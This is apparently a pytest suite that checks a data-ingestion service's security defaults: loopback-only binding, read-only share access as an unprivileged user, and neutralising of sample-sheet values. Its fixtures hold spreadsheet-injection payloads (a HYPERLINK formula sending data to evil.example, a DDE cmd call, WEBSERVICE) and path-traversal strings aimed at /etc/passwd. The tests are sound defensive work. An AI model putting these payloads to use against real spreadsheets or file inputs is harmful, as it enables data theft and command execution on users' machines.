"""Locked-down defaults (see docs/security.md).

- Both UIs bind to 127.0.0.1 unless configured: the ``progral serve`` parser defaults and the
  commands it builds (fast), and the sockets the running service really listens on (slow).
- The share is only ever read: an ingestion run as the unprivileged user ``nobody`` on a share
  owned by root that it cannot write (slow; the fault suite's share guard proves the rest).
- Sample-sheet values never become paths or formulas: traversal and absolute paths are flagged
  and link and open nothing; spreadsheet formulas are stored verbatim and written neutralised by
  ``progral sql --format csv``; an .xlsx formula stays its text, never its (cached) value.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
import zipfile
from pathlib import Path

import pytest

from progral_dagster.cli import build_parser, main
from progral_dagster.cli.serve import dagster_dev_command, mlflow_ui_command
from progral_dagster.warehouse import connect

from .conftest import ROOT, SAMPLES
from .fault_fixtures import (  # noqa: F401
    GuardedShare,
    exactly_once,
    pids_in_group,
    share_fixture,
    share_guard_fixture,
    spectrum_rows,
)
from .helpers import make_settings, spectrum_text

LOOPBACK = {"127.0.0.1", "::1"}


# ------------------------------------------------------------------------------ bind addresses
def test_serve_defaults_bind_loopback_unless_configured(tmp_path, monkeypatch):
    monkeypatch.delenv("PROGRAL_BIND", raising=False)
    args = build_parser().parse_args(["serve"])
    assert args.host == "127.0.0.1"
    s = make_settings(tmp_path, monkeypatch=monkeypatch)
    dag = dagster_dev_command(args.host, args.dagster_port)
    assert dag[dag.index("-h") + 1] == "127.0.0.1"
    ml = mlflow_ui_command(s, args.host, args.mlflow_port)
    assert ml[ml.index("--host") + 1] == "127.0.0.1"
    # `make run` starts `progral serve` without --host
    run_target = re.search(r"^run:.*\n((?:\t.*\n)+)", (ROOT / "Makefile").read_text(), re.M).group(
        1
    )
    assert "--host" not in run_target and "progral serve" in run_target
    # binding elsewhere is an explicit choice
    monkeypatch.setenv("PROGRAL_BIND", "10.1.2.3")
    assert build_parser().parse_args(["serve"]).host == "10.1.2.3"
    assert build_parser().parse_args(["serve", "--host", "127.0.0.1"]).host == "127.0.0.1"


def _free_port() -> int:
    with socket.socket() as so:
        so.bind(("127.0.0.1", 0))
        return so.getsockname()[1]


def _answers(port: int) -> bool:
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5) as r:
            return r.status == 200
    except OSError:
        return False


@pytest.mark.slow
def test_running_service_listens_on_loopback_only(tmp_path):
    psutil = pytest.importorskip("psutil")
    home = tmp_path / "home"
    (home / "share").mkdir(parents=True)
    dport, mport = _free_port(), _free_port()
    env = {
        k: v for k, v in os.environ.items() if not k.startswith(("PROGRAL_", "DAGSTER_", "MLFLOW_"))
    }
    env.update(PROGRAL_HOME=str(home), PROGRAL_SENSOR_INTERVAL_SECONDS="600")
    p = subprocess.Popen(
        [
            str(Path(sys.executable).parent / "progral"),
            "serve",
            "--no-seed",
            "--home",
            str(home),
            "--dagster-port",
            str(dport),
            "--mlflow-port",
            str(mport),
        ],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    family: dict[int, int] = {}
    try:
        deadline = time.time() + 240
        while time.time() < deadline and not (_answers(dport) and _answers(mport)):
            assert p.poll() is None, (home / "logs" / "dagster.log").read_text(errors="replace")[
                -3000:
            ]
            time.sleep(1)
        assert _answers(dport) and _answers(mport), "the UIs did not come up"
        # one service per home: a second one refuses to start, and says why
        second = subprocess.run(
            [str(Path(sys.executable).parent / "progral"), "serve", "--no-seed", "--home", str(home),
             "--dagster-port", str(_free_port()), "--mlflow-port", str(_free_port())],
            env=env, capture_output=True, text=True, timeout=120,
        )
        assert second.returncode == 1 and "already runs on" in second.stderr, second.stderr
        procs = [psutil.Process(p.pid), *psutil.Process(p.pid).children(recursive=True)]
        family = {q.pid: os.getpgid(q.pid) for q in procs}
        listening = []
        for q in procs:
            try:
                conns = q.net_connections(kind="inet")
            except psutil.NoSuchProcess:
                continue
            listening += [
                (q.pid, c.laddr.ip, c.laddr.port) for c in conns if c.status == psutil.CONN_LISTEN
            ]
        ports = {port for _, _, port in listening}
        assert {dport, mport} <= ports
        exposed = [x for x in listening if x[1] not in LOOPBACK]
        assert not exposed, f"listening beyond loopback (pid, address, port): {exposed}"
        print(
            f"listening sockets of the service: {sorted({(ip, port) for _, ip, port in listening})}"
        )
    finally:
        if p.poll() is None:
            os.kill(p.pid, signal.SIGTERM)  # `progral serve` stops both process groups itself
            try:
                p.wait(timeout=60)
            except subprocess.TimeoutExpired:
                os.killpg(p.pid, signal.SIGKILL)
                p.wait(timeout=10)
    deadline = time.time() + 20
    while time.time() < deadline and any(pids_in_group(g) for g in set(family.values())):
        time.sleep(0.5)
    left = {g: pids_in_group(g) for g in set(family.values())}
    assert not any(left.values()), f"processes left after `progral serve` stopped: {left}"


# ------------------------------------------------------------------------------ read-only share
def _as_nobody(cmd: list[str], env: dict) -> tuple[list[str], str]:
    """The command run as ``nobody``. If nobody cannot reach the interpreter (a Python installed
    under /root), it gets CAP_DAC_READ_SEARCH, which lets it read any file but write none."""
    probe = subprocess.run(
        ["runuser", "-u", "nobody", "--", sys.executable, "-c", "import progral_dagster"],
        capture_output=True,
        env=env,
    )
    if probe.returncode == 0:
        return ["runuser", "-u", "nobody", "--", *cmd], "runuser -u nobody"
    wrapped = [
        "setpriv",
        "--reuid=nobody",
        "--regid=nogroup",
        "--clear-groups",
        "--inh-caps=+dac_read_search",
        "--ambient-caps=+dac_read_search",
        "--",
        *cmd,
    ]
    probe = subprocess.run(
        [*wrapped[: -len(cmd)], sys.executable, "-c", "import progral_dagster"],
        capture_output=True,
        env=env,
    )
    if probe.returncode != 0:
        pytest.skip(
            f"nobody cannot run {sys.executable}: {probe.stderr.decode(errors='replace')[-300:]}"
        )
    return wrapped, "setpriv nobody + CAP_DAC_READ_SEARCH (reads anything, writes nothing)"


@pytest.mark.slow
def test_ingestion_as_unprivileged_user_on_a_share_it_cannot_write():
    if os.geteuid() != 0:
        pytest.skip("needs root to create a share owned by root and run as nobody")
    if not shutil.which("runuser") or not shutil.which("setpriv"):
        pytest.skip("runuser/setpriv not installed")
    base = Path(tempfile.mkdtemp(prefix="progral-unpriv-"))
    try:
        base.chmod(0o755)  # traversable by nobody; /tmp/pytest-of-root is not
        share = GuardedShare(base / "share")  # checked here: the folder is removed afterwards
        expected = {}
        for rel in ("sims-iontof/P_Ru_Bi1_1.txt", "sims-iontof/N_HEA19_Bi1_1.txt"):
            data = (SAMPLES / rel).read_bytes()
            share.write(f"instrument/{Path(rel).name}", data)
            expected[f"instrument/{Path(rel).name}"] = spectrum_rows(data)
        for d in [share.root, *[p for p in share.root.rglob("*") if p.is_dir()]]:
            os.chown(d, 0, 0)
            d.chmod(0o755)
        for f in (p for p in share.root.rglob("*") if p.is_file()):
            os.chown(f, 0, 0)
            f.chmod(0o644)
        home = base / "home"
        home.mkdir()
        os.chown(home, 65534, 65534)
        env = {
            k: v
            for k, v in os.environ.items()
            if not k.startswith(("PROGRAL_", "DAGSTER_", "MLFLOW_"))
        }
        env.update(
            HOME=str(home),
            PROGRAL_HOME=str(home),
            PROGRAL_SHARE=str(share.root),
            PYTHONDONTWRITEBYTECODE="1",
            MPLCONFIGDIR=str(home / ".mpl"),
        )
        progral = str(Path(sys.executable).parent / "progral")
        cmd, how = _as_nobody(
            [progral, "ingest", str(share.root), "--home", str(home), "--json"], env
        )
        # the same user really cannot write the share
        wcmd, _ = _as_nobody([sys.executable, "-c", f"open({str(share.root / 'x')!r}, 'w')"], env)
        w = subprocess.run(wcmd, capture_output=True, text=True, env=env)
        assert w.returncode != 0 and "PermissionError" in w.stderr
        r = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=300)
        assert r.returncode == 0, f"{how}: {r.stderr[-3000:]}"
        print(f"ingested as {how}")
        assert json.loads(r.stdout)["summary"]["counts"] == {"ingested": 2}
        exactly_once(home / "lake", expected)
        owners = {p.stat().st_uid for p in (home / "lake").rglob("*")}
        assert owners == {65534}, "the lake was written by another user than the unprivileged one"
        share.verify()
    finally:
        shutil.rmtree(base, ignore_errors=True)


# ------------------------------------------------------------------------------ sample sheets
_AUDIT: dict[str, list] = {"opened": []}
_AUDIT_ON = [False]


def _audit(event: str, args) -> None:
    if _AUDIT_ON[0] and event == "open" and isinstance(args[0], (str, bytes)):
        _AUDIT["opened"].append(os.fsdecode(args[0]))


_hook_added = [False]

FORMULAS = {
    "sample_id": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "project": "+cmd|' /C calc'!A0",
    "label": "@SUM(1)",
    "material": "-2+3",
    "cell_id": "=1+1",
}
BAD_PATHS = ["../../etc/passwd", "/etc/passwd", "C:\\x", "\\\\server\\share\\x", "sub/../../ok.txt"]


def _csv_sheet() -> str:
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(["file", *FORMULAS, "spot"])
    for i, bad in enumerate(BAD_PATHS):
        w.writerow([bad, f"EVIL{i}", "p", "x", "m", "c", "s"])
    w.writerow(["ok.txt", *FORMULAS.values(), "plain"])
    return out.getvalue()


def test_sample_sheet_values_never_become_paths_or_formulas(tmp_path, share, monkeypatch, capsys):
    if not _hook_added[0]:
        sys.addaudithook(_audit)
        _hook_added[0] = True
    s = make_settings(tmp_path, share=share.root, monkeypatch=monkeypatch)
    data = spectrum_text(8, seed=5)
    share.write("run1/ok.txt", data)
    share.write("run1/samples.csv", _csv_sheet())
    _AUDIT["opened"].clear()
    _AUDIT_ON[0] = True
    try:
        assert main(["ingest", str(share.root), "--home", str(s.home)]) == 0
    finally:
        _AUDIT_ON[0] = False
    opened = _AUDIT["opened"]
    assert opened, "the audit hook saw no file being opened"
    touched = [
        p
        for p in opened
        if os.path.basename(p) in ("passwd", "x")
        or "//server/" in p.replace("\\", "/")
        or re.match(r"^[A-Za-z]:", p)
    ]
    assert touched == [], "a sample-sheet value was opened as a path"
    con = connect(s.lake)
    problems = dict(con.execute("select row, problems from sample_sheet_problems").fetchall())
    assert sorted(problems) == list(range(1, len(BAD_PATHS) + 1))
    assert all("no absolute paths, no '..'" in p for p in problems.values())
    assert (
        con.execute(
            "select count(*) from samples where file is not null and row <= ?", [len(BAD_PATHS)]
        ).fetchone()[0]
        == 0
    )
    # only the good row links, to the one measurement on the share
    links = con.execute("select sample_id from measurement_samples").fetchall()
    assert links == [(FORMULAS["sample_id"],)]
    # formulas are stored verbatim
    row = con.execute(
        f"select {', '.join(FORMULAS)} from samples where file is not null"
    ).fetchone()
    assert dict(zip(FORMULAS, row, strict=True)) == FORMULAS
    # ... and neutralised where the service writes CSV for spreadsheets
    query = f"select {', '.join(FORMULAS)}, spot, 2.5 as x from samples where file is not null"
    capsys.readouterr()
    assert main(["sql", query, "--home", str(s.home), "--format", "csv"]) == 0
    header, values = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert header == [*FORMULAS, "spot", "x"]
    assert values == ["'" + v for v in FORMULAS.values()] + ["plain", "2.5"]
    assert main(["sql", query, "--home", str(s.home), "--format", "json"]) == 0
    assert (
        json.loads(capsys.readouterr().out)[0]["sample_id"] == FORMULAS["sample_id"]
    )  # JSON: verbatim
    exactly_once(s.lake, {"run1/ok.txt": spectrum_rows(data.encode())})


def _xlsx_with_cached_value(path: Path) -> None:
    """A workbook whose formula cells also carry a cached result, as Excel saves them."""
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["file", "sample_id", "label", "project"])
    ws.append(["ok.txt", "S1", "=1+1", '=WEBSERVICE("http://evil.example/")'])
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    xml = parts[sheet].decode()
    xml, n = re.subn(r"<f>1\+1</f>(<v\s*/>|<v></v>)?", "<f>1+1</f><v>2</v>", xml)
    assert n == 1
    parts[sheet] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, blob in parts.items():
            z.writestr(name, blob)
    cached = openpyxl.load_workbook(path, data_only=True).active.cell(2, 3).value
    assert cached == 2  # the cached value is really there


def test_xlsx_formula_is_kept_as_text_never_evaluated(tmp_path, share, monkeypatch):
    s = make_settings(tmp_path, share=share.root, monkeypatch=monkeypatch)
    share.write("ok.txt", spectrum_text(6, seed=3))
    _xlsx_with_cached_value(tmp_path / "samples.xlsx")
    share.write("samples.xlsx", (tmp_path / "samples.xlsx").read_bytes())
    assert main(["ingest", str(share.root), "--home", str(s.home)]) == 0
    con = connect(s.lake)
    assert con.execute("select sample_id, label, project, problems from samples").fetchall() == [
        ("S1", "=1+1", '=WEBSERVICE("http://evil.example/")', None)
    ]
    assert con.execute("select sample_id from measurement_samples").fetchall() == [("S1",)]
